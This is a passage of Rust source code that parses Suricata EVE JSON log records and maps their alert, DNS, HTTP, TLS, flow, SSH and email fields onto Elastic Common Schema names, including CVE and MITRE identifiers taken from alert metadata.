            (Sec::FileInfo, "filename") => K::FName,
            (Sec::FileInfo, "md5") => K::FMd5,
            (Sec::FileInfo, "sha1") => K::FSha1,
            (Sec::FileInfo, "sha256") => K::FSha256,
            (Sec::FileInfo, "size") => K::FSize,
            (Sec::FileInfo, "mimetype") => K::FMime,
            (Sec::Flow, "bytes_toserver") => K::FlBytesTs,
            (Sec::Flow, "bytes_toclient") => K::FlBytesTc,
            (Sec::Flow, "pkts_toserver") => K::FlPktsTs,
            (Sec::Flow, "pkts_toclient") => K::FlPktsTc,
            (Sec::Flow, "start") => K::FlStart,
            (Sec::Flow, "end") => K::FlEnd,
            (Sec::Netflow, "bytes") => K::NBytes,
            (Sec::Netflow, "pkts") => K::NPkts,
            (Sec::Netflow, "start") => K::NStart,
            (Sec::Netflow, "end") => K::NEnd,
            (Sec::Ssh, "client.hassh.hash") => K::SshClientHassh,
            (Sec::Ssh, "server.hassh.hash") => K::SshServerHassh,
            (Sec::Ssh, "client.software_version") => K::SshClientSoftware,
            (Sec::Ssh, "server.software_version") => K::SshServerSoftware,
            (Sec::Smtp, "mail_from") => K::MFrom,
            (Sec::Smtp, "rcpt_to") => K::MRcpt,
            (Sec::Email, "subject") => K::ESubject,
            (Sec::Email, "message_id") => K::EMessageId,
            _ => return None,
        })
    }

    /// A scalar as read: text borrowed from the line where it can be.
    #[derive(Debug, Clone, Default)]
    enum Leaf<'de> {
        #[default]
        Absent,
        Str(Cow<'de, str>),
        Int(i64),
        /// Beyond `i64`.
        U64(u64),
        F64(f64),
        Bool(bool),
    }

    impl Leaf<'_> {
        fn from_json(v: &Json) -> Leaf<'static> {
            match v {
                Json::String(s) => Leaf::Str(Cow::Owned(s.clone())),
                Json::Number(n) => n
                    .as_i64()
                    .map(Leaf::Int)
                    .or_else(|| n.as_u64().map(Leaf::U64))
                    .or_else(|| n.as_f64().map(Leaf::F64))
                    .unwrap_or_default(),
                Json::Bool(b) => Leaf::Bool(*b),
                _ => Leaf::Absent,
            }
        }

        fn as_str(&self) -> Option<&str> {
            match self {
                Self::Str(s) => Some(s),
                _ => None,
            }
        }

        /// As `json::text_of`.
        fn text(&self) -> Option<String> {
            match self {
                Self::Absent => None,
                Self::Str(s) => Some(s.to_string()),
                Self::Int(n) => Some(n.to_string()),
                Self::U64(n) => Some(n.to_string()),
                Self::F64(x) => serde_json::Number::from_f64(*x).map(|n| n.to_string()),
                Self::Bool(b) => Some(b.to_string()),
            }
        }

        /// As `json::int_of`.
        fn int(&self) -> Option<i64> {
            match self {
                Self::Int(n) => Some(*n),
                Self::F64(x) if x.fract() == 0.0 && x.abs() < 9.0e15 => {
                    // Checked above: a whole number well inside i64.
                    #[allow(clippy::cast_possible_truncation)]
                    let i = *x as i64;
                    Some(i)
                }
                Self::Str(s) => s.trim().parse().ok(),
                _ => None,
            }
        }

        /// The raw field's value (`None` for null).
        fn value(&self) -> Option<Value> {
            Some(match self {
                Self::Absent => return None,
                Self::Str(s) => Value::Str(s.to_string()),
                Self::Int(n) => Value::Int(*n),
                // As serde_json's `as_f64`.
                #[allow(clippy::cast_precision_loss)]
                Self::U64(n) => Value::Float(*n as f64),
                Self::F64(x) => Value::Float(*x),
                Self::Bool(b) => Value::Bool(*b),
            })
        }
    }

    /// The ECS fields, appended: each ECS name is set at most once (the
    /// few that two parts of a record could both set are settled before
    /// they are set), and none starts with `suricata.eve.`.
    struct Ecs<'f>(&'f mut Fields);

    impl Ecs<'_> {
        fn set(&mut self, name: &'static str, value: impl Into<Value>) {
            self.0.push(name, value);
        }

        /// As `Fields::set_text`.
        fn set_text(&mut self, name: &'static str, v: &str) {
            let v = trim(v);
            if !v.is_empty() && v != "-" {
                self.set(name, v);
            }
        }

        /// As the general reader's `copy_text`.
        fn copy_text(&mut self, leaf: &Leaf<'_>, name: &'static str) {
            match leaf {
                Leaf::Absent => {}
                Leaf::Str(s) => self.set_text(name, s),
                other => {
                    if let Some(s) = other.text() {
                        self.set(name, s);
                    }
                }
            }
        }

        /// As the general reader's `copy_int`.
        fn copy_int(&mut self, leaf: &Leaf<'_>, name: &'static str) -> Option<i64> {
            let n = leaf.int()?;
            self.set(name, n);
            Some(n)
        }
    }

    struct State<'de> {
        fields: Fields,
        /// The name being built: `suricata.eve.<path>`.
        name: String,
        /// Where the path below the current top-level key starts in `name`.
        sec_base: usize,
        /// The hashes of the keys of the objects being read, outermost
        /// first.
        keys: Vec<u64>,
        timestamp: Option<garrison_core::Timestamp>,
        event_type: Option<Cow<'de, str>>,
        sections: Vec<Sec>,
        /// Where each slot's leaf is in `noted` (`u8::MAX`: not seen):
        /// a record sets few of the slots, and this keeps the state small.
        slots: [u8; NK],
        noted: Vec<Leaf<'de>>,
        /// `dns.queries[0]` when it is an object: its rrname and rrtype.
        query0: Option<(Leaf<'static>, Leaf<'static>)>,
        answer_ips: Vec<IpAddr>,
        grouped_a: Vec<IpAddr>,
        grouped_aaaa: Vec<IpAddr>,
        /// `alert.metadata` keys that name CVEs or MITRE ids, with their
        /// text items.
        meta: Vec<(String, Vec<String>)>,
        rcpt_to: Option<Vec<Value>>,
        attachments: Option<Vec<Value>>,
    }

    fn is_meta_key(k: &str) -> bool {
        let b = k.as_bytes();
        (b.len() >= 3 && b[..3].eq_ignore_ascii_case(b"cve") && (b.len() == 3 || b[3] == b'_'))
            || [
                "mitre_technique_id",
                "mitre_technique_name",
                "mitre_tactic_id",
                "mitre_tactic_name",
            ]
            .iter()
            .any(|m| k.eq_ignore_ascii_case(m))
    }

    fn push_ip(ips: &mut Vec<IpAddr>, v: Option<&Json>) {
        if let Some(Json::String(s)) = v
            && let Ok(ip) = s.parse::<IpAddr>()
        {
            ips.push(ip);
        }
    }

    impl<'de> State<'de> {
        fn new() -> Self {
            let mut name = String::with_capacity(96);
            name.push_str(PREFIX);
            Self {
                fields: Fields::with_capacity(72),
                name,
                sec_base: PREFIX.len(),
                keys: Vec::with_capacity(48),
                timestamp: None,
                event_type: None,
                sections: Vec::with_capacity(4),
                slots: [u8::MAX; NK],
                noted: Vec::with_capacity(16),
                query0: None,
                answer_ips: Vec::new(),
                grouped_a: Vec::new(),
                grouped_aaaa: Vec::new(),
                meta: Vec::new(),
                rcpt_to: None,
                attachments: None,
            }
        }

        /// Keeps `value` under the current name (static when it is a
        /// name Suricata writes).
        fn push_raw(&mut self, sec: Sec, depth: u32, value: Value) {
            let known = if depth == 0 {
                self.name.get(PREFIX.len()..).and_then(top_name)
            } else {
                self.name
                    .get(self.sec_base..)
                    .and_then(|rel| section_name(sec, rel))
            };
            let name = known.map_or_else(|| Cow::Owned(self.name.clone()), Cow::Borrowed);
            self.fields.push(name, value);
        }

        /// One scalar at the current name; `Err` gives the record up.
        fn scalar(&mut self, sec: Sec, depth: u32, leaf: Leaf<'de>) -> Result<(), ()> {
            if depth == 0
                && let Sec::Top(top) = sec
            {
                return self.top_scalar(top, leaf);
            }
            if let Some(v) = leaf.value() {
                self.push_raw(sec, depth, v);
            }
            if depth == 0 || matches!(sec, Sec::Other | Sec::Top(_)) {
                return Ok(());
            }
            let Some(rel) = self.name.get(self.sec_base..) else {
                return Ok(());
            };
            if let Some(k) = slot(sec, rel) {
                self.note(k, leaf);
            } else if sec == Sec::Alert
                && let Some(mk) = rel.strip_prefix("metadata.")
                && !mk.contains('.')
                && is_meta_key(mk)
                && let Leaf::Str(s) = leaf
            {
                let mk = mk.to_owned();
                self.meta.push((mk, vec![s.into_owned()]));
            }
            Ok(())
        }

        fn top_scalar(&mut self, top: Top, leaf: Leaf<'de>) -> Result<(), ()> {
            match (top, leaf) {
                (Top::Timestamp, Leaf::Str(s)) => match parse_time(&s) {
                    Some(ts) => self.timestamp = Some(ts),
                    None => self.push_raw(Sec::Top(top), 0, Value::Str(s.into_owned())),
                },
                (Top::SrcIp, Leaf::Str(s)) => Ecs(&mut self.fields).set("source.ip", ip_value(&s)),
                (Top::DestIp, Leaf::Str(s)) => {
                    Ecs(&mut self.fields).set("destination.ip", ip_value(&s))
                }
                (Top::SrcPort, leaf) => {
                    Ecs(&mut self.fields).copy_int(&leaf, "source.port");
                }
                (Top::DestPort, leaf) => {
                    Ecs(&mut self.fields).copy_int(&leaf, "destination.port");
                }
                (Top::Proto, Leaf::Str(s)) => {
                    Ecs(&mut self.fields).set("network.transport", s.to_ascii_lowercase());
                }
                (Top::AppProto, Leaf::Str(p)) if !matches!(&*p, "failed" | "unknown" | "") => {
                    Ecs(&mut self.fields).set("network.protocol", p.to_ascii_lowercase());
                }
                (Top::CommunityId, leaf) => {
                    if let Some(s) = leaf.text() {
                        Ecs(&mut self.fields).set_text("network.community_id", &s);
                    }
                }
                (Top::InIface, leaf) => {
                    if let Some(s) = leaf.text() {
                        Ecs(&mut self.fields).set_text("observer.ingress.interface.name", &s);
                    }
                }
                (Top::EventType, Leaf::Str(s)) => {
                    if trim(&s).is_empty() {
                        return Err(());
                    }
                    let s = match s {
                        Cow::Borrowed(b) => Cow::Borrowed(trim(b)),
                        Cow::Owned(o) => Cow::Owned(trim(&o).to_owned()),
                    };
                    self.push_raw(Sec::Top(top), 0, Value::Str(s.to_string()));
                    self.event_type = Some(s);
                }
                (Top::EventType, _) => return Err(()),
                // Flow ids are 64-bit unsigned; keep the exact digits as
                // text when they do not fit an i64.
                (Top::FlowId, leaf @ (Leaf::U64(_) | Leaf::F64(_))) => {
                    if let Some(s) = leaf.text() {
                        self.push_raw(Sec::Top(top), 0, Value::Str(s));
                    }
                }
                (_, leaf) => {
                    if let Some(v) = leaf.value() {
                        self.push_raw(Sec::Top(top), 0, v);
                    }
                }
            }
            Ok(())
        }

        /// Whether the ECS mapping reads the items of the array at the
        /// current name.
        fn reads_items(&self, sec: Sec) -> bool {
            let Some(rel) = self.name.get(self.sec_base..) else {
                return false;
            };
            match (sec, rel) {
                (Sec::Dns, "queries" | "grouped.A" | "grouped.AAAA")
                | (Sec::Smtp, "rcpt_to")
                | (Sec::Email, "attachment") => true,
                (Sec::Alert, rel) => rel
                    .strip_prefix("metadata.")
                    .is_some_and(|mk| !mk.contains('.') && is_meta_key(mk)),
                _ => false,
            }
        }

        /// An array at the current name: kept as a list, as the general
        /// reader keeps it; the arrays the ECS mapping reads are read too.
        fn array(&mut self, sec: Sec, depth: u32, items: Vec<Json>) {
            if depth > 0
                && let Some(rel) = self.name.get(self.sec_base..)
            {
                match (sec, rel) {
                    (Sec::Dns, "queries") => {
                        if let Some(Json::Object(q)) = items.first() {
                            let get = |k: &str| q.get(k).map(Leaf::from_json).unwrap_or_default();
                            self.query0 = Some((get("rrname"), get("rrtype")));
                        }
                    }
                    (Sec::Dns, "grouped.A") => {
                        for v in &items {
                            push_ip(&mut self.grouped_a, Some(v));
                        }
                    }
                    (Sec::Dns, "grouped.AAAA") => {
                        for v in &items {
                            push_ip(&mut self.grouped_aaaa, Some(v));
                        }
                    }
                    (Sec::Smtp, "rcpt_to") => {
                        self.rcpt_to = Some(
                            items
                                .iter()
                                .filter_map(Json::as_str)
                                .map(|s| Value::Str(strip_angle(s).to_owned()))
                                .collect(),
                        );
                    }
                    (Sec::Email, "attachment") => {
                        self.attachments =
                            Some(items.iter().filter_map(Value::from_json).collect());
                    }
                    (Sec::Alert, rel) => {
                        if let Some(mk) = rel.strip_prefix("metadata.")
                            && !mk.contains('.')
                            && is_meta_key(mk)
                        {
                            let list = items
                                .iter()
                                .filter_map(Json::as_str)
                                .map(str::to_owned)
                                .collect();
                            self.meta.push((mk.to_owned(), list));
                        }
                    }
                    _ => {}
                }
            }
            let list = Value::List(
                items
                    .into_iter()
                    .filter_map(Value::from_json_owned)
                    .collect(),
            );
            self.push_raw(sec, depth, list);
        }

        /// The ECS fields from what the walk noted, then the event.
        fn finish(mut self) -> Option<Parsed> {
            let event_type = self.event_type.take()?;
            let sections = std::mem::take(&mut self.sections);
            if sections.contains(&Sec::Flow) && sections.contains(&Sec::Netflow) {
                // Both set `source.bytes` and the like: the general reader
                // settles which wins.
                return None;
            }
            let mut fields = std::mem::take(&mut self.fields);
            let mut ecs = Ecs(&mut fields);
            ecs.set("event.module", "suricata");
            ecs.set("event.dataset", "suricata.eve");
            let (kind, category, types): (&str, &[&str], &[&str]) = match &*event_type {
                "alert" => ("alert", &["network", "intrusion_detection"], &[]),
                "stats" => ("metric", &[], &["info"]),
                "flow" => ("event", &["network"], &["connection", "end"]),
                "netflow" => ("event", &["network"], &["connection"]),
                "fileinfo" => ("event", &["network", "file"], &["info"]),
                "anomaly" | "drop" => ("event", &["network"], &["info"]),
                _ => ("event", &["network"], &["protocol"]),
            };
            ecs.set("event.kind", kind);
            if !category.is_empty() {
                ecs.set("event.category", super::str_list(category));
            }
            // An alert's action decides the type.
            let action = sections
                .contains(&Sec::Alert)
                .then(|| self.leaf(K::AAction).as_str())
                .flatten();
            if let Some(action) = action {
                let t = match action {
                    "blocked" | "drop" | "reject" | "rejected" => "denied",
                    _ => "allowed",
                };
                ecs.set("event.type", super::str_list(&[t]));
            } else if !types.is_empty() {
                ecs.set("event.type", super::str_list(types));
            }
            let mut severity = match &*event_type {
                "anomaly" => 30,
                "alert" => 60,
                _ => 0,
            };
            for sec in sections {
                self.map_section(&mut ecs, &mut severity, sec, &event_type);
            }
            Some(Parsed {
                timestamp: self.timestamp,
                severity,
                fields,
            })
        }

        /// Notes the leaf at slot `k` (a later one replaces it).
        fn note(&mut self, k: K, leaf: Leaf<'de>) {
            match self.slots[k as usize] {
                u8::MAX => {
                    if let Ok(i) = u8::try_from(self.noted.len())
                        && i != u8::MAX
                    {
                        self.slots[k as usize] = i;
                        self.noted.push(leaf);
                    }
                }
                i => {
                    if let Some(slot) = self.noted.get_mut(usize::from(i)) {
                        *slot = leaf;
                    }
                }
            }
        }

        fn leaf(&self, k: K) -> &Leaf<'de> {
            const ABSENT: &Leaf<'static> = &Leaf::Absent;
            match self.slots[k as usize] {
                u8::MAX => ABSENT,
                i => self.noted.get(usize::from(i)).unwrap_or(ABSENT),
            }
        }

        fn map_section(&mut self, f: &mut Ecs, severity: &mut u8, sec: Sec, event_type: &str) {
            match sec {
                Sec::Alert => self.map_alert(f, severity),
                Sec::Dns => self.map_dns(f),
                Sec::Http => {
                    f.copy_text(self.leaf(K::HHost), "url.domain");
                    f.copy_text(self.leaf(K::HUrl), "url.original");
                    f.copy_text(self.leaf(K::HMethod), "http.request.method");
                    f.copy_int(self.leaf(K::HStatus), "http.response.status_code");
                    f.copy_text(self.leaf(K::HUa), "user_agent.original");
                    f.copy_text(self.leaf(K::HRefer), "http.request.referrer");
                    f.copy_text(self.leaf(K::HCtype), "http.response.mime_type");
                    f.copy_int(self.leaf(K::HLength), "http.response.body.bytes");
                    if let Some(p) = self.leaf(K::HProto).as_str() {
                        f.set("http.version", p.strip_prefix("HTTP/").unwrap_or(p));
                    }
                }
                Sec::Tls => {
                    f.copy_text(self.leaf(K::TSni), "tls.client.server_name");
                    f.copy_text(self.leaf(K::TSubject), "tls.server.subject");
                    f.copy_text(self.leaf(K::TIssuer), "tls.server.issuer");
                    f.copy_text(self.leaf(K::TNotBefore), "tls.server.not_before");
                    f.copy_text(self.leaf(K::TNotAfter), "tls.server.not_after");
                    f.copy_text(self.leaf(K::TSerial), "tls.server.x509.serial_number");
                    if let Some(v) = self.leaf(K::TVersion).as_str()
                        && let Some((num, proto)) = tls_version(v)
                    {
                        f.set("tls.version", num);
                        f.set("tls.version_protocol", proto);
                    }
                    f.copy_text(self.leaf(K::TJa3), "tls.client.ja3");
                    f.copy_text(self.leaf(K::TJa3s), "tls.server.ja3s");
                    if let Some(s) = self.leaf(K::TJa4).as_str() {
                        f.set_text("tls.client.ja4", s);
                    }
                    f.copy_text(self.leaf(K::TJa4Hash), "tls.client.ja4");
                    if let Some(fp) = self.leaf(K::TFingerprint).as_str() {
                        let mut hex = String::with_capacity(40);
                        hex.extend(
                            fp.chars()
                                .filter(|c| *c != ':')
                                .map(|c| c.to_ascii_uppercase()),
                        );
                        if hex.len() == 40 {
                            f.set("tls.server.hash.sha1", hex);
                        }
                    }
                }
                Sec::FileInfo => {
                    f.copy_text(self.leaf(K::FName), "file.name");
                    f.copy_text(self.leaf(K::FMd5), "file.hash.md5");
                    f.copy_text(self.leaf(K::FSha1), "file.hash.sha1");
                    f.copy_text(self.leaf(K::FSha256), "file.hash.sha256");
                    f.copy_int(self.leaf(K::FSize), "file.size");
                    f.copy_text(self.leaf(K::FMime), "file.mime_type");
                }
                Sec::Flow => {
                    let ts = f.copy_int(self.leaf(K::FlBytesTs), "source.bytes");
                    let tc = f.copy_int(self.leaf(K::FlBytesTc), "destination.bytes");
                    if let (Some(a), Some(b)) = (ts, tc) {
                        f.set("network.bytes", a.saturating_add(b));
                    }
                    let ts = f.copy_int(self.leaf(K::FlPktsTs), "source.packets");
                    let tc = f.copy_int(self.leaf(K::FlPktsTc), "destination.packets");
                    if let (Some(a), Some(b)) = (ts, tc) {
                        f.set("network.packets", a.saturating_add(b));
                    }
                    if event_type == "flow" {
                        f.copy_text(self.leaf(K::FlStart), "event.start");
                        f.copy_text(self.leaf(K::FlEnd), "event.end");
                    }
                }
                Sec::Netflow => {
                    if let Some(b) = f.copy_int(self.leaf(K::NBytes), "source.bytes") {
                        f.set("network.bytes", b);
                    }
                    if let Some(p) = f.copy_int(self.leaf(K::NPkts), "source.packets") {
                        f.set("network.packets", p);
                    }
                    f.copy_text(self.leaf(K::NStart), "event.start");
                    f.copy_text(self.leaf(K::NEnd), "event.end");
                }
                Sec::Ssh => {
                    f.copy_text(self.leaf(K::SshClientHassh), "ssh.client.hassh");
                    f.copy_text(self.leaf(K::SshClientSoftware), "ssh.client.software");
                    f.copy_text(self.leaf(K::SshServerHassh), "ssh.server.hassh");
                    f.copy_text(self.leaf(K::SshServerSoftware), "ssh.server.software");
                }
                Sec::Smtp => {
                    if let Some(from) = self.leaf(K::MFrom).as_str() {
                        f.set_text("email.from.address", strip_angle(from));
                    }
                    if let Some(list) = self.rcpt_to.take() {
                        if !list.is_empty() {
                            f.set("email.to.address", Value::List(list));
                        }
                    } else if let Some(s) = self.leaf(K::MRcpt).as_str() {
                        f.set_text("email.to.address", strip_angle(s));
                    }
                }
                Sec::Email => {
                    f.copy_text(self.leaf(K::ESubject), "email.subject");
                    f.copy_text(self.leaf(K::EMessageId), "email.message_id");
                    if let Some(list) = self.attachments.take()
                        && !list.is_empty()
                    {
                        f.set("email.attachments.file.name", Value::List(list));
                    }
                }
                Sec::Other | Sec::Tcp | Sec::Top(_) => {}
            }
        }

        fn map_alert(&mut self, f: &mut Ecs, severity: &mut u8) {
            let mut cves = Vec::new();
            if let Some(sig) = self.leaf(K::ASig).as_str() {
                f.set_text("rule.name", sig);
                f.set_text("message", sig);
                find_cves(sig, &mut cves);
            }
            if let Some(id) = self.leaf(K::ASigId).text() {
                f.set("rule.id", id);
            }
            if let Some(rev) = self.leaf(K::ARev).text() {
                f.set("rule.version", rev);
            }
            f.copy_text(self.leaf(K::ACat), "rule.category");
            if let Some(action) = self.leaf(K::AAction).as_str() {
                f.set_text("event.action", action);
            }
            if let Some(s) = self.leaf(K::ASev).int() {
                *severity = match s {
                    i64::MIN..=1 => 80,
                    2 => 60,
                    3 => 40,
                    _ => 20,
                };
            }
            // In key order, as the general reader meets them; a later key
            // naming the same MITRE field wins.
            self.meta.sort_by(|a, b| a.0.cmp(&b.0));
            let mut threat: [Option<&Vec<String>>; 4] = [None; 4];
            for (k, items) in &self.meta {
                let k_lower = k.to_ascii_lowercase();
                if k_lower == "cve" || k_lower.starts_with("cve_") {
                    for item in items {
                        find_cves(item, &mut cves);
                    }
                }
                let target = match k_lower.as_str() {
                    "mitre_technique_id" => 0,
                    "mitre_technique_name" => 1,
                    "mitre_tactic_id" => 2,
                    "mitre_tactic_name" => 3,
                    _ => continue,
                };
                if !items.is_empty() {
                    threat[target] = Some(items);
                }
            }
            let names = [
                "threat.technique.id",
                "threat.technique.name",
                "threat.tactic.id",
                "threat.tactic.name",
            ];
            for (name, items) in names.into_iter().zip(threat) {
                if let Some(items) = items {
                    f.set(
                        name,
                        Value::List(items.iter().map(|s| Value::from(s.as_str())).collect()),
                    );
                }
            }
            if !cves.is_empty() {
                f.set(
                    "vulnerability.id",
                    Value::List(cves.into_iter().map(Value::Str).collect()),
                );
            }
        }

        fn map_dns(&mut self, f: &mut Ecs) {
            // v1 and v2: rrname/rrtype at the top of `dns`; v3 (Suricata
            // 8): `queries[]`.
            if let Some((rrname, rrtype)) = &self.query0 {
                f.copy_text(rrname, "dns.question.name");
                f.copy_text(rrtype, "dns.question.type");
            } else {
                f.copy_text(self.leaf(K::DRrname), "dns.question.name");
                f.copy_text(self.leaf(K::DRrtype), "dns.question.type");
            }
            f.copy_text(self.leaf(K::DRcode), "dns.response_code");
            if let Some(id) = self.leaf(K::DId).text() {
                f.set("dns.id", id);
            }
            if let Some(t) = self.leaf(K::DType).as_str() {
                f.set(
                    "dns.type",
                    if t == "query" || t == "request" {
                        "question"
                    } else {
                        t
                    },
                );
            }
            let mut ips: Vec<Value> = Vec::new();
            let rdata = self
                .leaf(K::DRdata)
                .as_str()
                .and_then(|s| s.parse::<IpAddr>().ok());
            for ip in rdata
                .iter()
                .chain(&self.answer_ips)
                .chain(&self.grouped_a)
                .chain(&self.grouped_aaaa)
            {
                let ip = Value::Ip(*ip);
                if !ips.contains(&ip) {
                    ips.push(ip);
                }
            }
            if !ips.is_empty() {
                f.set("dns.resolved_ip", Value::List(ips));
            }
        }
    }

    /// The record's top-level object.
    fn top<'de>(r: &mut Reader<'de>, st: &mut State<'de>) -> Option<()> {
        let mut seen = 0;
        if r.object()? {
            loop {
                let k = r.key()?;
                note_key(&k, &mut st.keys, 0, &mut seen)?;
                let sec = sec_of(&k);
                st.name.truncate(PREFIX.len());
                st.name.push_str(&k);
                st.sec_base = st.name.len() + 1;
                node(r, st, sec, 0)?;
                if !r.more(b'}')? {
                    break;
                }
            }
        }
        st.name.truncate(PREFIX.len());
        Some(())
    }

    /// Notes a key of the object whose keys start at `start` in `keys`
    /// (`seen` is that object's filter: one bit per digest's low six
    /// bits): a repeated key (or an empty or dotted one) gives the record
    /// up. Keys are compared by a 64-bit digest of their length and their
    /// first and last eight bytes; two keys with one digest (which real
    /// records all but never have) merely send the record to the general
    /// reader.
    fn note_key(k: &str, keys: &mut Vec<u64>, start: usize, seen: &mut u64) -> Option<()> {
        let b = k.as_bytes();
        let n = b.len();
        let word = |s: &[u8]| {
            let mut w = [0u8; 8];
            w.copy_from_slice(s);
            u64::from_le_bytes(w)
        };
        let (head, tail) = if n >= 8 {
            (word(&b[..8]), word(&b[n - 8..]))
        } else {
            let short = b.iter().rev().fold(0u64, |w, &c| (w << 8) | u64::from(c));
            (short, 0)
        };
        let has_dot = |w: u64| {
            let x = w ^ 0x2e2e_2e2e_2e2e_2e2e;
            x.wrapping_sub(0x0101_0101_0101_0101) & !x & 0x8080_8080_8080_8080 != 0
        };
        if n == 0
            || has_dot(head)
            || (n > 8 && has_dot(tail))
            || (n > 16 && b[8..n - 8].contains(&b'.'))
        {
            return None;
        }
        let h = (head ^ tail.rotate_left(31)).wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ n as u64;
        let bit = 1u64 << (h >> 58);
        if *seen & bit != 0 && keys.get(start..).is_some_and(|ks| ks.contains(&h)) {
            return None;
        }
        *seen |= bit;
        keys.push(h);
        Some(())
    }

    /// One value below a top-level key, at `depth` keys below it.
    fn node<'de>(r: &mut Reader<'de>, st: &mut State<'de>, sec: Sec, depth: u32) -> Option<()> {
        if depth > MAX_DEPTH {
            return None;
        }
        let kind = r.next()?;
        if kind == Next::Scalar {
            let leaf = match r.scalar()? {
                Scalar::Str(s) => Leaf::Str(s),
                Scalar::U64(v) => i64::try_from(v).map_or(Leaf::U64(v), Leaf::Int),
                Scalar::I64(v) => Leaf::Int(v),
                Scalar::F64(v) => Leaf::F64(v),
                Scalar::Bool(b) => Leaf::Bool(b),
                Scalar::Null => Leaf::Absent,
            };
            return st.scalar(sec, depth, leaf).ok();
        }
        match sec {
            Sec::Top(t) if depth == 0 && t.dropped() => {
                r.skip(depth + 1)?;
                return Some(());
            }
            Sec::Top(Top::EventType) if depth == 0 => return None,
            _ => {}
        }
        if kind == Next::Array {
            if depth > 0 && sec == Sec::Dns && st.name.get(st.sec_base..) == Some("answers") {
                let (list, rdata) = items(r, depth + 1, "rdata")?;
                st.answer_ips
                    .extend(rdata.iter().filter_map(|s| s.parse::<IpAddr>().ok()));
                st.push_raw(sec, depth, Value::List(list));
            } else if depth > 0 && st.reads_items(sec) {
                let Json::Array(items) = json(r, depth + 1)? else {
                    return None;
                };
                st.array(sec, depth, items);
            } else {
                let (list, _) = items(r, depth + 1, "")?;
                st.push_raw(sec, depth, Value::List(list));
            }
            return Some(());
        }
        if depth == 0 && !matches!(sec, Sec::Other | Sec::Top(_)) {
            // A section is an object.
            st.sections.push(sec);
        }
        let base = st.name.len();
        let start = st.keys.len();
        let mut seen = 0;
        if r.object()? {
            loop {
                let k = r.key()?;
                note_key(&k, &mut st.keys, start, &mut seen)?;
                st.name.push('.');
                st.name.push_str(&k);
                node(r, st, sec, depth + 1)?;
                st.name.truncate(base);
                if !r.more(b'}')? {
                    break;
                }
            }
        }
        st.keys.truncate(start);
        Some(())
    }

    /// A value as `serde_json` reads it into its own tree.
    fn json(r: &mut Reader<'_>, depth: u32) -> Option<Json> {
        if depth > MAX_DEPTH {
            return None;
        }
        Some(match r.next()? {
            Next::Scalar => match r.scalar()? {
                Scalar::Str(s) => Json::String(s.into_owned()),
                Scalar::U64(v) => Json::from(v),
                Scalar::I64(v) => Json::from(v),
                Scalar::F64(v) => Json::Number(serde_json::Number::from_f64(v)?),
                Scalar::Bool(b) => Json::Bool(b),
                Scalar::Null => Json::Null,
            },
            Next::Array => {
                let mut list = Vec::new();
                if r.array()? {
                    loop {
                        list.push(json(r, depth + 1)?);
                        if !r.more(b']')? {
                            break;
                        }
                    }
                }
                Json::Array(list)
            }
            Next::Object => {
                let mut map = serde_json::Map::new();
                if r.object()? {
                    loop {
                        let k = r.key()?;
                        let v = json(r, depth + 1)?;
                        map.insert(k.into_owned(), v);
                        if !r.more(b'}')? {
                            break;
                        }
                    }
                }
                Json::Object(map)
            }
        })
    }

    /// An array's items as `Value::from_json_owned` makes them, read
    /// directly: nulls left out, objects kept as their JSON text; with the
    /// text value of each object item's member `pick` (none when `pick` is
    /// empty).
    fn items<'a>(
        r: &mut Reader<'a>,
        depth: u32,
        pick: &str,
    ) -> Option<(Vec<Value>, Vec<Cow<'a, str>>)> {
        if depth > MAX_DEPTH {
            return None;
        }
        let mut list = Vec::with_capacity(4);
        let mut picked = Vec::new();
        if r.array()? {
            loop {
                let item = match r.next()? {
                    Next::Array => Some(Value::List(items(r, depth + 1, "")?.0)),
                    Next::Object => {
                        let mut text = String::with_capacity(128);
                        picked.extend(canon(r, depth + 1, &mut text, pick)?);
                        Some(Value::Str(text))
                    }
                    Next::Scalar => match r.scalar()? {
                        Scalar::Str(s) => Some(Value::Str(s.into_owned())),
                        Scalar::U64(v) => i64::try_from(v).map_or(Leaf::U64(v), Leaf::Int).value(),
                        Scalar::I64(v) => Some(Value::Int(v)),
                        Scalar::F64(v) => Some(Value::Float(v)),
                        Scalar::Bool(b) => Some(Value::Bool(b)),
                        Scalar::Null => None,
                    },
                };
                list.extend(item);
                if !r.more(b']')? {
                    break;
                }
            }
        }
        Some((list, picked))
    }

    /// Writes a scalar as `serde_json` writes it.
    fn write_scalar(v: &Scalar<'_>, out: &mut String) -> Option<()> {
        match v {
            // Text read with no escape has nothing serde_json escapes
            // (quotes, backslashes, control characters).
            Scalar::Str(Cow::Borrowed(s)) => {
                out.push('"');
                out.push_str(s);
                out.push('"');
            }
            Scalar::Str(Cow::Owned(s)) => out.push_str(&serde_json::to_string(s).ok()?),
            Scalar::U64(n) => write_digits(*n, out),
            Scalar::I64(n) => {
                if *n < 0 {
                    out.push('-');
                }
                write_digits(n.unsigned_abs(), out);
            }
            Scalar::F64(x) => out.push_str(&serde_json::to_string(x).ok()?),
            Scalar::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
            Scalar::Null => out.push_str("null"),
        }
        Some(())
    }

    /// Writes `n` in decimal (as `itoa`, which serde_json uses, does).
    fn write_digits(mut n: u64, out: &mut String) {
        let mut buf = [0u8; 20];
        let mut i = buf.len();
        loop {
            i -= 1;
            // A digit: `n % 10` is below ten.
            #[allow(clippy::cast_possible_truncation)]
            let d = (n % 10) as u8;
            buf[i] = b'0' + d;
            n /= 10;
            if n == 0 {
                break;
            }
        }
        for &c in &buf[i..] {
            out.push(char::from(c));
        }
    }

    /// Writes the value at `r` as `serde_json` writes it back once read
    /// into its own tree: compact, members in key order, a repeated key
    /// keeping its last value. When the value is an object whose member
    /// `pick` (if not empty) is text, returns that text.
    fn canon<'a>(
        r: &mut Reader<'a>,
        depth: u32,
        out: &mut String,
        pick: &str,
    ) -> Option<Option<Cow<'a, str>>> {
        if depth > MAX_DEPTH {
            return None;
        }
        match r.next()? {
            Next::Scalar => {
                write_scalar(&r.scalar()?, out)?;
                Some(None)
            }
            Next::Array => {
                out.push('[');
                if r.array()? {
                    loop {
                        canon(r, depth + 1, out, "")?;
                        if !r.more(b']')? {
                            break;
                        }
                        out.push(',');
                    }
                }
                out.push(']');
                Some(None)
            }
            Next::Object => {
                let mut members: Vec<(Cow<'a, str>, std::ops::Range<usize>)> =
                    Vec::with_capacity(8);
                let mut values = String::with_capacity(128);
                let mut picked = None;
                if r.object()? {
                    loop {
                        let k = r.key()?;
                        let at = values.len();
                        if !pick.is_empty() && k == pick {
                            picked = None;
                            if r.next()? == Next::Scalar {
                                let v = r.scalar()?;
